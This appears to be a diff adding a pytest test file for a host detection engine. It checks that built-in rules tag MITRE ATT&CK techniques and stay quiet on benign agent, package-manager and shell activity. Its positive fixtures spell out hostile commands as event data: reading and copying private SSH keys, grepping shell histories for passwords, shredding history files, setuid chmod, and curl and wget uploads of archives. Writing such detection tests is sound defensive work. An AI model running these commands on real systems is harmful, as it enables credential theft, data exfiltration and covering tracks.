@@ -1,0 +1,243 @@
+"""The built-in rules: each technique fires on procedures other than the built-in ability's own, and a
+benign event set (the agent, the server, package managers, ordinary shell use) raises nothing."""
+
+from __future__ import annotations
+
+import pytest
+from detection_helpers import exec_event, proc_event
+
+from assay.detection import Engine
+from assay.events import Event
+
+PYTHON_PARENT = {
+    "process.parent.executable": "/usr/bin/python3.11",
+    "process.parent.command_line": "python3 -m x",
+}
+DPKG_SCRIPT = {
+    "process.parent.executable": "/usr/bin/dash",
+    "process.parent.command_line": "/bin/sh /var/lib/dpkg/info/openssh-server.postinst configure",
+}
+
+
+@pytest.fixture(scope="module")
+def engine() -> Engine:
+    eng = Engine.load(include_builtin=True)
+    assert eng.errors == []
+    return eng
+
+
+def techniques(engine: Engine, event: Event) -> set[str]:
+    return {t for a in engine.process(event) for t in a.techniques}
+
+
+POSITIVE: list[tuple[str, Event]] = [
+    ("T1082", exec_event("uname", "-srm")),
+    ("T1082", exec_event("hostnamectl")),
+    ("T1082", exec_event("head", "-n3", "/etc/os-release")),
+    ("T1082", exec_event("grep", "PRETTY", "/usr/lib/os-release", "/etc/lsb-release")),
+    ("T1082", exec_event("cat", "/proc/version")),
+    ("T1033", exec_event("whoami")),
+    ("T1033", exec_event("id", "-un")),
+    ("T1033", exec_event("w", "-h")),
+    ("T1057", exec_event("ps", "-ef")),
+    ("T1057", exec_event("ps", "axo", "pid,comm")),
+    ("T1057", exec_event("ps", "-A")),
+    ("T1057", exec_event("pstree", "-p")),
+    ("T1087.001", exec_event("cut", "-d:", "-f1", "/etc/passwd")),
+    ("T1087.001", exec_event("getent", "group")),
+    ("T1087.001", exec_event("awk", "-F:", "$3>=1000", "/etc/passwd")),
+    ("T1518.001", exec_event("pgrep", "-a", "osqueryd")),
+    ("T1518.001", exec_event("systemctl", "is-active", "falcon-sensor")),
+    ("T1518.001", exec_event("grep", "-Ei", "wazuh|tetragon")),
+    ("T1016", exec_event("ip", "-4", "route")),
+    ("T1016", exec_event("cat", "/etc/resolv.conf")),
+    ("T1016", exec_event("netstat", "-rn")),
+    ("T1546.004", proc_event("file_write", "/usr/bin/dash", **{"file.path": "/tmp/h.x/.bashrc"})),
+    ("T1546.004", proc_event("file_write", "/usr/bin/python3.11", **{"file.path": "/home/u/.zshrc"})),
+    ("T1546.004", proc_event("file_write", "/usr/bin/tee", **{"file.path": "/etc/profile.d/zz.sh"})),
+    (
+        "T1543.002",
+        proc_event("file_write", "/usr/bin/dash", **{"file.path": "/tmp/h/.config/systemd/user/upd.service"}),
+    ),
+    ("T1543.002", proc_event("file_write", "/usr/bin/cp", **{"file.path": "/etc/systemd/system/x.timer"})),
+    ("T1552.004", exec_event("cat", "/tmp/h/.ssh/id_ed25519")),
+    ("T1552.004", exec_event("find", "/", "-name", "*.pem")),
+    ("T1552.004", exec_event("cp", "/home/u/.ssh/id_rsa", "/tmp/k")),
+    (
+        "T1552.004",
+        proc_event("file_read_sensitive", "/usr/bin/python3.11", **{"file.path": "/root/.ssh/id_rsa"}),
+    ),
+    ("T1552.003", exec_event("grep", "-i", "pass", "/tmp/h/.bash_history")),
+    ("T1552.003", exec_event("strings", "/root/.zsh_history")),
+    ("T1552.003", exec_event("tail", "-n50", "/home/u/.mysql_history")),
+    ("T1070.003", exec_event("truncate", "-s0", "/tmp/h/.bash_history")),
+    ("T1070.003", exec_event("shred", "-u", "/root/.zsh_history")),
+    ("T1070.003", exec_event("ln", "-sf", "/dev/null", "/home/u/.bash_history")),
+    ("T1070.003", proc_event("file_delete", "/usr/bin/python3.11", **{"file.path": "/home/u/.bash_history"})),
+    ("T1140", exec_event("base64", "--decode")),
+    ("T1140", exec_event("openssl", "enc", "-d", "-base64", "-in", "x")),
+    ("T1140", exec_event("xxd", "-r", "-p")),
+    ("T1140", exec_event("perl", "-MMIME::Base64", "-e", "print decode_base64($x)")),
+    ("T1222.002", exec_event("chmod", "+x", "/tmp/payload")),
+    ("T1222.002", exec_event("chmod", "0777", "/tmp/d")),
+    ("T1222.002", exec_event("chmod", "o+w", "/tmp/d")),
+    ("T1222.002", exec_event("chmod", "4755", "/tmp/sh")),
+    ("T1222.002", exec_event("chmod", "u=rwx", "run.sh")),
+    ("T1560.001", exec_event("tar", "-cjf", "/tmp/out.tbz", "/tmp/stage")),
+    ("T1560.001", exec_event("tar", "czf", "o.tgz", "d")),
+    ("T1560.001", exec_event("tar", "--create", "--file=o.tar", "d")),
+    ("T1560.001", exec_event("zip", "-qr", "o.zip", "d")),
+    ("T1560.001", exec_event("7z", "a", "o.7z", "d")),
+    (
+        "T1048.003",
+        proc_event("connect", "/usr/bin/bash", **{"destination.ip": "127.0.0.1", "destination.port": 4444}),
+    ),
+    ("T1048.003", exec_event("curl", "-T", "/tmp/o.tgz", "http://127.0.0.1:8000/")),
+    ("T1048.003", exec_event("curl", "--data-binary", "@/tmp/o.tgz", "ftp://10.0.0.1/")),
+    ("T1048.003", exec_event("wget", "--post-file=/tmp/o", "http://x/")),
+    ("T1059.006", exec_event("python3", "-c", "import os; os.system('id')", exe="/usr/bin/python3.11")),
+    ("T1059.006", exec_event("python", "-Ic", "print(1)", exe="/usr/bin/python2.7")),
+]
+
+
+@pytest.mark.parametrize(
+    ("technique", "event"), POSITIVE, ids=[f"{t}-{i}" for i, (t, _) in enumerate(POSITIVE)]
+)
+def test_rule_fires_on_behaviour(engine: Engine, technique: str, event: Event) -> None:
+    found = techniques(engine, event)
+    assert technique in found, f"{technique} not raised for {event.fields.get('process.command_line')}"
+
+
+NEAR_MISSES: list[tuple[str, Event]] = [
+    ("bare ps lists only the terminal's processes", exec_event("ps")),
+    ("ps for one pid", exec_event("ps", "-o", "pid=", "-p", "42")),
+    ("tar extracting", exec_event("tar", "-xzf", "o.tgz")),
+    ("tar listing", exec_event("tar", "tf", "o.tar")),
+    ("7z listing", exec_event("7z", "l", "o.7z")),
+    ("chmod removing rights", exec_event("chmod", "go-w", "f")),
+    ("chmod 644", exec_event("chmod", "644", "f")),
+    ("ssh using its key", exec_event("ssh", "-i", "/home/u/.ssh/id_rsa", "host")),
+    ("public key read", exec_event("cat", "/home/u/.ssh/id_rsa.pub")),
+    ("base64 encoding", exec_event("base64", "/tmp/f")),
+    ("curl over https", exec_event("curl", "-T", "/tmp/f", "https://example.org/")),
+    ("python script file", exec_event("python3", "tool.py", exe="/usr/bin/python3.11")),
+    ("history shown by bash builtin is no exec; less on a log", exec_event("less", "/var/log/syslog")),
+    (
+        "shell over a unix socket",
+        proc_event("connect", "/usr/bin/bash", **{"network.family": "unix", "unix.path": "/run/x.sock"}),
+    ),
+]
+
+
+@pytest.mark.parametrize(("why", "event"), NEAR_MISSES, ids=[w for w, _ in NEAR_MISSES])
+def test_near_misses_do_not_fire(engine: Engine, why: str, event: Event) -> None:
+    assert engine.process(event) == [], why
+
+
+def benign_events() -> list[Event]:
+    """The agent, the server, apt/dpkg and ordinary shell use, as the sensor reports them."""
+    agent = {
+        "process.parent.executable": "/usr/bin/python3.11",
+        "process.parent.command_line": "python3 -m assay.agent",
+    }
+    return [
+        # the agent starting executors (the harness: command on fd 3)
+        exec_event("sh", "/dev/fd/3", exe="/usr/bin/dash", parent=agent),
+        exec_event("bash", "/dev/fd/3", exe="/usr/bin/bash", parent=agent),
+        exec_event("python3", "/dev/fd/3", exe="/usr/bin/python3.11", parent=agent),
+        exec_event(
+            "python3", "-m", "assay.agent", "--server", "http://127.0.0.1:8888", exe="/usr/bin/python3.11"
+        ),
+        proc_event(
+            "connect",
+            "/usr/bin/python3.11",
+            ["python3", "-m", "assay.agent"],
+            **{"destination.ip": "127.0.0.1", "destination.port": 8888, "network.transport": "tcp"},
+        ),
+        # the server
+        exec_event("python3", "-m", "uvicorn", "assay.api:app", "--port", "8888", exe="/usr/bin/python3.11"),
+        proc_event("accept", "/usr/bin/python3.11", ["uvicorn"], **{"source.ip": "127.0.0.1"}),
+        proc_event("file_write", "/usr/bin/python3.11", ["uvicorn"], **{"file.path": "/tmp/assay/assay.db"}),
+        exec_event("uname", "-p", parent=PYTHON_PARENT),
+        # apt and dpkg with maintainer scripts
+        exec_event("apt-get", "install", "-y", "jq"),
+        exec_event(
+            "dpkg",
+            "--status-fd",
+            "30",
+            "--configure",
+            "jq",
+            parent={"process.parent.executable": "/usr/bin/apt-get"},
+        ),
+        exec_event("id", "-u", "sshd", parent=DPKG_SCRIPT),
+        exec_event("uname", "-r", parent=DPKG_SCRIPT),
+        exec_event("chmod", "755", "/usr/lib/x/helper", parent=DPKG_SCRIPT),
+        exec_event("getent", "passwd", "sshd", parent=DPKG_SCRIPT),
+        proc_event("file_write", "/usr/bin/dpkg", **{"file.path": "/etc/bash.bashrc.dpkg-new"}),
+        proc_event(
+            "file_write", "/usr/bin/dpkg", **{"file.path": "/lib/systemd/system/ssh.service.dpkg-new"}
+        ),
+        proc_event("file_write", "/usr/bin/dpkg", **{"file.path": "/usr/lib/systemd/system/jq.service"}),
+        # ordinary shell use in tests and development
+        exec_event("ls", "-la", "/tmp"),
+        exec_event("cat", "README.md"),
+        exec_event("grep", "-rn", "TODO", "src"),
+        exec_event("git", "status", "--porcelain"),
+        exec_event("make", "test"),
+        exec_event("python3", "-m", "pytest", "-q", exe="/usr/bin/python3.11"),
+        exec_event(
+            "python3",
+            "-c",
+            "import sys; print(sys.prefix)",
+            exe="/usr/bin/python3.11",
+            parent={
+                "process.parent.executable": "/usr/bin/python3.11",
+                "process.parent.command_line": "/tmp/.venv/bin/python -m pip install -e .",
+            },
+        ),
+        exec_event("mkdir", "-p", "/tmp/h/.ssh"),
+        exec_event("chmod", "600", "/tmp/h/.ssh/id_rsa"),
+        exec_event("rm", "-rf", "/tmp/build"),
+        exec_event("cp", "a.txt", "b.txt"),
+        exec_event("tar", "-xf", "src.tar"),
+        exec_event("sleep", "1"),
+        exec_event("env"),
+        proc_event("file_write", "/usr/bin/bash", **{"file.path": "/home/u/.bash_history"}),
+        proc_event("file_write", "/usr/bin/python3.11", **{"file.path": "/tmp/pytest-of-root/x.txt"}),
+        proc_event("file_delete", "/usr/bin/rm", **{"file.path": "/tmp/build/a.o"}),
+        proc_event("connect", "/usr/bin/git", **{"destination.ip": "127.0.0.1", "destination.port": 9418}),
+        proc_event("exit", "/usr/bin/dash"),
+        proc_event("fork", "/usr/bin/dash"),
+    ]
+
+
+def test_benign_event_set_raises_nothing(engine: Engine) -> None:
+    fired = [
+        (a.title, e.fields.get("process.command_line")) for e in benign_events() for a in engine.process(e)
+    ]
+    assert fired == []
+
+
+def test_builtin_rules_cover_the_first_library_but_t1049() -> None:
+    expected = {
+        "T1082", "T1033", "T1057", "T1087.001", "T1518.001", "T1016", "T1546.004", "T1543.002",
+        "T1552.004", "T1552.003", "T1070.003", "T1140", "T1222.002", "T1560.001", "T1048.003", "T1059.006",
+    }  # fmt: skip
+    engine = Engine.load(include_builtin=True)
+    assert expected <= engine.mapped_techniques
+    assert "T1049" not in engine.mapped_techniques  # left without a rule on purpose (architecture §8)
+
+
+def test_alerts_carry_lineage_for_attribution(engine: Engine) -> None:
+    ev = exec_event("whoami")
+    (alert,) = engine.process(ev)
+    assert alert.entity_id == ev.entity_id and alert.pid == ev.pid
+    assert alert.lineage == (ev.entity_id, "999:9990", "1:1")
+    assert alert.techniques == ("T1033",) and alert.events == (ev,)
+    assert alert.rule_file and alert.rule_file.endswith("system_owner_user_discovery.yml")
+
+
+def test_engine_publishes_what_validation_needs(engine: Engine) -> None:
+    assert {"exec", "file_write", "file_delete", "connect"} <= engine.consumed_actions
+    # No built-in rule reads process lifecycle events: a builtin-only ability stays missed_no_telemetry.
+    assert not {"fork", "exit", "loss"} & engine.consumed_actions
